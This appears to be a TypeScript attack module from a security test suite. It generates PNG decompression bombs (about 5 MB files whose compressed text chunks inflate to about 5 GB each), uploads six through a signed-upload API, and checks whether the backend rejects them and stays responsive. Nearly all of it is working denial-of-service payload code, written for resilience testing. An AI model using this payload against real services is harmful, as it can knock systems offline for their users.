import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { type Attack, broken, held, type Target } from './attack.ts';
import { openPeople } from './people.ts';

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, sum]);
}

/** 8 × 8 pixels, and a hundred texts of 50 MB each once they are inflated: about 5 MB. @param salt makes each file another one */
function inflatingPng(salt: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(8, 0);
  header.writeUInt32BE(8, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const text = deflateSync(Buffer.alloc(50 * 2 ** 20));
  const texts = Array.from({ length: 100 }, (_, i) =>
    chunk('zTXt', Buffer.concat([Buffer.from(`k${String(salt)}x${String(i)}\0\0`, 'latin1'), text])),
  );
  const pixels = chunk('IDAT', deflateSync(Buffer.alloc(8 * 25)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    ...[chunk('IHDR', header), ...texts, pixels, chunk('IEND', Buffer.alloc(0))],
  ]);
}

async function upload({ api, token }: Target, bytes: Buffer): Promise<number> {
  const headers = { authorization: `Bearer ${token ?? ''}`, 'content-type': 'application/json' };
  const hash = createHash('sha256').update(bytes).digest('hex');
  const body = JSON.stringify({ filename: 'photo.png', hash });
  const signed = (await (await fetch(`${api}/api/pay/v1/upload-sign`, { method: 'POST', headers, body })).json()) as {
    data: { url: string | null; object_name: string } | null;
  };
  if (signed.data?.url == null) throw new Error('the upload was not signed');
  await fetch(signed.data.url, { method: 'PUT', body: new Uint8Array(bytes) });
  const done = await fetch(`${api}/api/pay/v1/upload-done`, {
    ...{ method: 'POST', headers },
    body: JSON.stringify({ object_name: signed.data.object_name }),
  });
  return done.status;
}

export const inflatingPngs: Attack = {
  item: 'A1',
  title: 'six pictures of 5 MB that inflate to 5 GB each stall the backend',
  async run(target) {
    const token = target.token ?? (await (await openPeople(target)).arrive()).token;
    let worst = 0;
    let over = false;
    const uploads = Promise.all(
      [1, 2, 3, 4, 5, 6].map((salt) => upload({ ...target, token }, inflatingPng(salt))),
    ).finally(() => {
      over = true;
    });
    while (!over) {
      const startedAt = performance.now();
      await (await fetch(`${target.api}/healthz`)).text();
      worst = Math.max(worst, performance.now() - startedAt);
    }
    const statuses = await uploads;
    const seen = `answers ${statuses.join(', ')}; /healthz within ${worst.toFixed(0)} ms`;
    return statuses.every((status) => status === 422) && worst < 2_000 ? held(seen) : broken(seen);
  },
};
